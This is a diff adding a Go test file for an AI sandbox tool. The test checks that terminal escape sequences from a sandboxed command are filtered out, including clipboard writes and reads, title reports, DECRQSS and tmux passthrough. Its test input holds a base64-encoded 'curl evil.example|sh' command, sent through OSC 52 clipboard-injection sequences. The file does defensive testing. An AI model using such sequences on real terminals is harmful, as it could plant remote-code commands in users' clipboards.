@@ -1,0 +1,134 @@
+//go:build linux
+
+package escape
+
+import (
+	"os"
+	"os/exec"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/creack/pty"
+
+	"github.com/aigate-dev/aigate/internal/e2e"
+	"github.com/aigate-dev/aigate/internal/testutil"
+)
+
+// terminalAttack writes, to every way the command has to the terminal
+// (stdout, stderr, /dev/tty), a clipboard write (OSC 52, BEL- and
+// ST-terminated), a clipboard read, the window-title report request, a
+// DECRQSS and a tmux passthrough carrying OSC 52, between text that
+// must pass.
+const terminalAttack = `
+b64=Y3VybCBldmlsLmV4YW1wbGV8c2gK
+printf 'before\033]52;c;%s\007mid\033]52;c;%s\033\\' $b64 $b64
+printf '\033]52;c;?\007\033[21t\033P$qm\033\\\033Ptmux;\033\033]52;c;%s\007\033\\' $b64
+printf '\033]52;p;%s\007' $b64 >&2
+[ -w /dev/tty ] && printf '\033]52;s;%s\007' $b64 >/dev/tty
+printf '\033]0;title-ok\007\033[1mbold-ok\033[0m after\n'
+`
+
+// TestEscapeTerminal: what a sandboxed command writes to its terminal
+// reaches the user's terminal without the sequences that set or read the
+// clipboard or make the terminal type text back, and run says it dropped
+// them once the command ended. With stdin a terminal (the pty's input
+// path) and without (output only).
+func TestEscapeTerminal(t *testing.T) {
+	eachBackend(t, func(t *testing.T, b *box) {
+		for _, stdinTTY := range []bool{true, false} {
+			name := "stdin-tty"
+			if !stdinTTY {
+				name = "stdin-null"
+			}
+			t.Run(name, func(t *testing.T) {
+				got := b.onTerminal(t, stdinTTY, "sh", "-c", terminalAttack)
+				if strings.Contains(got, "]52") || strings.Contains(got, "Y3VybCBldmls") {
+					t.Errorf("a clipboard sequence reached the terminal:\n%q", got)
+				}
+				for _, bad := range []string{"\x1b[21t", "$qm", "tmux;"} {
+					if strings.Contains(got, bad) {
+						t.Errorf("%q reached the terminal:\n%q", bad, got)
+					}
+				}
+				for _, want := range []string{"beforemid", "\x1b]0;title-ok\x07\x1b[1mbold-ok\x1b[0m after",
+					"dropped a clipboard write or read (OSC 52)",
+					"dropped a request to report the window title",
+					"dropped a request to report terminal settings (DECRQSS)",
+					"dropped a device control string"} {
+					if !strings.Contains(got, want) {
+						t.Errorf("the terminal lacks %q:\n%q", want, got)
+					}
+				}
+				if n := strings.Count(got, "(OSC 52)"); n != 1 {
+					t.Errorf("the clipboard drop reported %d times, want once:\n%q", n, got)
+				}
+			})
+		}
+	})
+}
+
+// onTerminal runs `aigate run -- argv` as the user on a terminal of its
+// own (a pty whose slave is the user's, stdin too when stdinTTY) and
+// returns all that reached the terminal.
+func (b *box) onTerminal(t *testing.T, stdinTTY bool, argv ...string) string {
+	t.Helper()
+	master, tty, err := pty.Open()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer master.Close()
+	defer tty.Close()
+	if err := os.Chown(tty.Name(), int(machine.uid), int(machine.gid)); err != nil {
+		t.Fatal(err)
+	}
+	cmd := b.asUser(exec.Command(machine.bin, append([]string{"run", "--"}, argv...)...))
+	cmd.SysProcAttr.Setpgid = false
+	cmd.SysProcAttr.Setsid, cmd.SysProcAttr.Setctty = true, true
+	cmd.Stdin, cmd.Stdout, cmd.Stderr = tty, tty, tty
+	ctty := 0
+	if !stdinTTY {
+		devnull, err := os.Open(os.DevNull)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer devnull.Close()
+		cmd.Stdin, ctty = devnull, 1
+	}
+	cmd.SysProcAttr.Ctty = ctty
+	out := &testutil.SyncBuffer{}
+	copied := make(chan struct{})
+	go func() {
+		defer close(copied)
+		buf := make([]byte, 4096)
+		for {
+			n, err := master.Read(buf)
+			out.Write(buf[:n])
+			if err != nil {
+				return
+			}
+		}
+	}()
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	waited := make(chan error, 1)
+	go func() { waited <- cmd.Wait() }()
+	select {
+	case err := <-waited:
+		if code := e2e.ExitCodeOf(t, err); code != 0 {
+			t.Fatalf("exit %d\n%q", code, out.String())
+		}
+	case <-time.After(runLimit):
+		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
+		<-waited
+		t.Fatalf("aigate on a terminal did not finish:\n%q", out.String())
+	}
+	tty.Close()
+	select {
+	case <-copied:
+	case <-time.After(5 * time.Second):
+	}
+	return out.String()
+}
